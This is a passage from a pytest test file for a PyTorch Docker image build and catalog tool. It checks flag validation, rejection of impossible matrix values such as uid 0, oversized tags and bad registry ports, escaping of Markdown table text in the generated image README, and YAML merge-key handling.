    (["--skip", "smoke,smok"], "--skip 'smok' is not a check: name one or more of identity, gpu, driver"),
    (["--only", "hygiene", "--skip", "smoke"], "--only and --skip cannot be combined"),
], ids=["unknown check", "only and skip"])
def test_check_selection_is_checked_before_the_engine(tmp_path, flags, says):
    scratch = make_scratch(tmp_path)
    result = run_bounded(*in_scratch(scratch, "test", CPU_RUNTIME, *flags))
    assert_contract(result, 2)
    assert problem_lines(result.stderr) == [line for line in result.stderr.splitlines() if line.strip()], result.stderr
    assert len(problem_lines(result.stderr)) == 1 and says in result.stderr and "DOCKER_HOST" not in result.stderr


def test_nightly_gpus_flag_is_checked_before_anything_runs(tmp_path):
    scratch = make_scratch(tmp_path)
    result = run_bounded(*in_scratch(scratch, "nightly", "--gpus", "x", "--registry", "localhost:5000/ml/pytorch",
                                     "--catalog", str(scratch / "catalog"), CPU_RUNTIME))
    assert_contract(result, 2)
    assert "--gpus" in result.stderr and "DOCKER_HOST" not in result.stderr, result.stderr
    assert not (scratch / "bases.lock.json").exists(), "nightly locked bases before checking its flags"


# ----------------------------------------------------------------------------------- values that are impossible

@pytest.mark.parametrize("size", ["0", "0g", "-1g", "-8g", "0.0001"])
def test_zero_or_negative_shm_size_is_refused(tmp_path, size):
    path = variant_matrix(tmp_path, CPU_VARIANT + f"  shm_size: {size!r}\n")
    assert_refused(path, "shm_size")


@pytest.mark.parametrize("name", ["root", "daemon", "nobody"])
def test_system_user_is_refused(tmp_path, name):
    path = variant_matrix(tmp_path, CPU_VARIANT + f"  user: {{name: {name}, uid: 1000}}\n")
    assert_refused(path, "user", name)


def test_uid_zero_is_refused(tmp_path):
    path = variant_matrix(tmp_path, CPU_VARIANT + "  user: {name: torch, uid: 0}\n")
    assert_refused(path, "uid")


@pytest.mark.parametrize("arch_list", ["[]", "[\"0.0\"]", "[\"8.0\", \"0.5\"]"])
def test_gpu_row_with_empty_or_impossible_arch_list_is_refused(tmp_path, arch_list):
    path = variant_matrix(tmp_path, GPU_VARIANT + f"  arch_list: {arch_list}\n")
    assert_refused(path, at_line_of="arch_list:")


@pytest.mark.parametrize("key, variant", [
    ("cudnn", "- torch: 2.14.1\n  cuda: \"13.0\"\n  cudnn: 1" + "0" * 125 + "\n  flavors: [runtime]\n  allow_unlisted: true\n"),
    ("torch", "- torch: 2.13." + "1" * 130 + "\n  cuda: cpu\n  flavors: [runtime]\n  allow_unlisted: true\n"),
])
def test_tag_over_128_characters_is_refused(tmp_path, key, variant):
    """Custom versions (allow_unlisted) long enough to make a tag Docker cannot push."""
    error = assert_refused(variant_matrix(tmp_path, variant))
    assert "128" in str(error) or key in str(error), str(error)


@pytest.mark.parametrize("registry", ["localhost:99999/ml/pytorch", "localhost:0/ml/pytorch", "localhost:65536/x"])
def test_registry_port_out_of_range_is_refused(tmp_path, registry):
    path = variant_matrix(tmp_path, CPU_VARIANT, registry=registry)
    assert_refused(path, "registry")


def catalog_with_entry(deprecated: str, os_name: str) -> dict:
    tag = CPU_RUNTIME
    digest = "sha256:" + "b" * 64
    return {"schema": 1, "updated_at": "2026-01-02T02:00:00Z", "images": {tag: {
        "tag": tag, "repository": "localhost:5000/ml/pytorch", "digest": digest, "image_id": "sha256:" + "c" * 64,
        "pinned": [{"tag": f"{tag}-20260102", "digest": digest, "date": "2026-01-02",
                    "sbom": f"sbom/{tag}-20260102.cdx.json"}],
        "floating": [tag], "versions": {"torch": "2.13.0", "cuda": "cpu", "python": "3.11", "os": os_name,
                                        "flavor": "runtime"},
        "size": 1_000_000_000, "download_size": 400_000_000,
        "checks": {"passed": 6, "failed": 0, "skipped": 3, "skipped_checks": {}, "verified_at": "2026-01-02T01:00:00Z"},
        "scan": {"status": "skipped"}, "sbom": f"sbom/{tag}-20260102.cdx.json", "published_at": "2026-01-02T02:00:00Z",
        "updated_at": "2026-01-02T02:00:00Z", "deprecated": deprecated}}}


def catalog_page(folder: Path, deprecated: str, os_name: str) -> tuple[subprocess.CompletedProcess, str | None]:
    folder.mkdir()
    scratch = make_scratch(folder)
    (scratch / "catalog").mkdir()
    (scratch / "catalog" / "catalog.json").write_text(json.dumps(catalog_with_entry(deprecated, os_name)))
    result = run_bounded(*in_scratch(scratch, "catalog", "--catalog", str(scratch / "catalog")))
    page = scratch / "images" / "README.md"
    return result, page.read_text() if page.exists() else None


def table_shape(page: str) -> list[int]:
    """Per line: how many unescaped | it has (a table row's cell count), or -1 for a line outside a table."""
    return [len(re.findall(r"(?<!\\)\|", line)) if line.startswith("|") else -1 for line in page.split("\n")]


def test_free_text_cannot_break_a_markdown_table(tmp_path):
    """A deprecation note or version with | or a newline would add cells or rows to images/README.md."""
    result, page = catalog_page(tmp_path / "hostile", "old | use 2.15\n| injected | row |", "debian12 | x")
    assert_contract(result, 0, 2)
    if result.returncode == 2:
        return
    _, plain_page = catalog_page(tmp_path / "plain", "old, use 2.15", "debian12")
    assert table_shape(page) == table_shape(plain_page), page


# ------------------------------------------------------------------------------------------------ YAML merge keys

def test_yaml_merge_keys_work(tmp_path):
    """`<<: *anchor` is YAML's way to share settings: a matrix using it gives the rows of the spelled-out one."""
    merged = variant_matrix(tmp_path, """
        - &gpu
          torch: 2.14.1
          torchvision: 0.29.1
          cuda: "13.0"
          cudnn: 9
          flavors: [runtime, devel]
          size_budget: 9g
        - <<: *gpu
          cuda: "12.6"
          flavors: [runtime]
        """)
    spelled = tmp_path / "spelled.yaml"
    spelled.write_text(merged.read_text().replace("- &gpu", "-").replace(
        "  - <<: *gpu\n", "  - torch: 2.14.1\n    torchvision: 0.29.1\n    cudnn: 9\n    size_budget: 9g\n"))
    tags = lambda path: [(spec.tag, spec.size_budget, spec.cudnn) for spec in load_matrix(path).specs]  # noqa: E731
    assert tags(merged) == tags(spelled)
    assert [tag for tag, _, _ in tags(merged)] == ["2.14.1-cuda13.0-cudnn9-runtime", "2.14.1-cuda13.0-cudnn9-devel",
                                                   "2.14.1-cuda12.6-cudnn9-runtime"]
